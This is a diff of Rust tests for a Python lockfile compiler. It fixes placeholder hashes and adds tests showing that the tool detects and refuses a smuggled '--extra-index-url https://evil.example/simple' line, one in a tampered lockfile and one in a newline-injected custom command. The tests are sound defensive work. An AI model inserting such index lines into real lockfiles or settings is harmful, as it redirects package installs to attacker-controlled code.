@@ -628,7 +628,7 @@ fn repeated_bases_and_includes() {
     work.write("reqs/extra.txt", "tool\n");
     work.write("reqs/in.txt", "-r extra.txt\napp\n");
     work.write("b1.txt", "torch==2.11.0+cu130\n");
-    work.write("b2.txt", "lib==1.5.0 \\\n    --hash=sha256:00\n");
+    work.write("b2.txt", "lib==1.5.0 \\\n    --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000\n");
     let (code, _, stderr) = run(work.compile(
         &index.json(),
         &[
@@ -864,7 +864,7 @@ fn check_into_a_closed_pipe_ends_quietly() {
     work.write("in.txt", "app\n");
     let mut stale = String::new();
     for i in 0..50_000 {
-        stale.push_str(&format!("p{i}==1.0 --hash=sha256:00\n"));
+        stale.push_str(&format!("p{i}==1.0 --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000\n"));
     }
     work.write("out.txt", &stale);
     let cmd = work.compile(&index.json(), &["--check", "in.txt", "-o", "out.txt"]);
@@ -885,4 +885,43 @@ fn check_into_a_closed_pipe_ends_quietly() {
     assert!(!stderr.contains("Broken pipe"), "{stderr}");
     assert!(!stderr.contains("panicked"), "{stderr}");
     assert_eq!(out.status.code(), Some(141), "{stderr}");
+}
+
+#[test]
+fn check_sees_a_live_line_where_the_header_command_was() {
+    let index = layer_index();
+    let work = Work::new();
+    work.write("in.txt", "app\n");
+    let (code, _, stderr) = run(work.compile(&index.json(), &["in.txt", "-o", "out.txt"]));
+    assert_eq!(code, 0, "{stderr}");
+    let lock = work.read("out.txt");
+    let command_line = lock.lines().nth(2).unwrap().to_string();
+    assert!(command_line.starts_with("#    layerlock compile"), "{lock}");
+    work.write(
+        "out.txt",
+        &lock.replace(
+            &command_line,
+            "--extra-index-url https://evil.example/simple",
+        ),
+    );
+    let (code, stdout, _) =
+        run(work.compile(&index.json(), &["--check", "in.txt", "-o", "out.txt"]));
+    assert_eq!(code, 1, "{stdout}");
+    assert!(stdout.contains("+#    layerlock compile"), "{stdout}");
+}
+
+#[test]
+fn a_newline_in_a_custom_command_is_refused() {
+    let index = layer_index();
+    let work = Work::new();
+    work.write("in.txt", "app\n");
+    let mut cmd = work.compile(&index.json(), &["in.txt", "-o", "out.txt"]);
+    cmd.env(
+        "LAYERLOCK_CUSTOM_COMPILE_COMMAND",
+        "make locks\n--extra-index-url https://evil.example/simple",
+    );
+    let (code, _, stderr) = run(cmd);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("control character"), "{stderr}");
+    assert!(!work.path().join("out.txt").exists());
 }
